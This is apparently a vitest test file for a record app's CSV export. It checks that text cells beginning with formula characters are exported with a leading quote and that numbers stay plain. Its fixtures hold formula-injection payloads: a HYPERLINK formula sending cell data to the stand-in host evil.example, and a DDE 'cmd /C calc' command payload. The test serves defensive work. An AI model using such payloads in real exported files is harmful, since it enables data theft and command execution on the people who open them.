/**
 * CSV injection (OWASP): a text cell that a spreadsheet app would run as a formula is exported with a leading
 * `'`, quoted; numbers, negative ones included, stay plain numbers. Records come from the real local server.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { RecordTableClient } from '../../../core/api';
import { startHarness } from './harness';
import type { Harness } from './harness';

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

const MARK = 'csv-injection-test';

/** Name and Notes as typed: in the first four records both start with a character that makes a formula. */
const RECORDS = [
  {
    Name: '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    Notes: `=1+1\n${MARK}`,
    Points: -5,
    Budget: -1200.5,
  },
  { Name: '+cmd|" /C calc"!A0', Notes: `@SUM(1+1) ${MARK}`, Points: 3 },
  { Name: '-2+3', Notes: `\t=2+2 ${MARK}`, Points: 0 },
  { Name: '@me', Notes: `\r=3+3 ${MARK}`, Budget: -0.25 },
];
const PLAIN = { Name: 'a - b = c', Notes: `plain ${MARK}`, Points: -1 };

const blankOr = (n: number | undefined) => (n === undefined ? '' : String(n));

describe('CSV export and formula injection', () => {
  it('writes text that starts a formula with a leading quote, and numbers as numbers', async () => {
    h = await startHarness({ saveExportAs: 'injection.csv' });
    const created = await h.reader('Tasks').createMany([...RECORDS, PLAIN]);
    const filePath = join(h.userDataDir, 'injection.csv');
    const fields = ['Name', 'Notes', 'Points', 'Budget'];
    const { exportId } = await h.call('export.start', {
      target: h.target('Tasks'),
      query: { formula: `FIND('${MARK}', {Notes})`, fields },
      includeRecordId: true,
    });
    await h.parts.exports.settled(exportId);
    expect(h.eventsOf('export.progress').at(-1)).toMatchObject({ state: 'done', rows: RECORDS.length + 1 });

    const raw = await readFile(filePath, 'utf8');
    const parsed = Papa.parse<string[]>(raw, { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['Record ID', ...fields]);
    const byId = new Map(parsed.slice(1).map((row) => [row[0], row.slice(1)]));
    RECORDS.forEach((typed, i) => {
      // Nothing is lost: the exported text is the typed text behind one quote.
      expect(byId.get(created[i]!.id)).toEqual([
        `'${typed.Name}`,
        `'${typed.Notes}`,
        blankOr(typed.Points),
        blankOr(typed.Budget),
      ]);
    });

    // Negative numbers, and text with a formula character further in, are written as they are, unquoted.
    const lineOf = (id: string) => raw.split('\r\n').find((l) => l.startsWith(id));
    expect(lineOf(created[0]!.id)?.endsWith(',-5,-1200.5')).toBe(true);
    expect(lineOf(created[3]!.id)?.endsWith(',,-0.25')).toBe(true);
    const plainId = created[RECORDS.length]!.id;
    expect(lineOf(plainId)).toBe(`${plainId},${PLAIN.Name},${PLAIN.Notes},-1,`);
  });

  it('treats a field name in the header like any other cell', async () => {
    h = await startHarness();
    const meta = new RecordTableClient({ baseUrl: h.server.url, apiKey: h.server.apiKey }).meta;
    const teams = (await meta.baseSchema(h.baseId)).find((t) => t.name === 'Teams')!;
    await meta.createField(h.baseId, teams.id, {
      name: '-Margin',
      type: 'number',
      options: { precision: 0 },
    });
    const [team] = (await h.reader('Teams').listPage({ pageSize: 1 })).records;
    await h.reader('Teams').update(team!.id, { Name: 'Core team', '-Margin': -3 });

    const { exportId } = await h.call('export.start', {
      target: h.target('Teams'),
      query: { fields: ['Name', '-Margin'], formula: '{-Margin} = -3' },
      includeRecordId: false,
    });
    await h.parts.exports.settled(exportId);
    const { csv } = await h.call('export.take', { exportId });
    expect(csv).toBe(`Name,"'-Margin"\r\nCore team,-3`);
  });
});
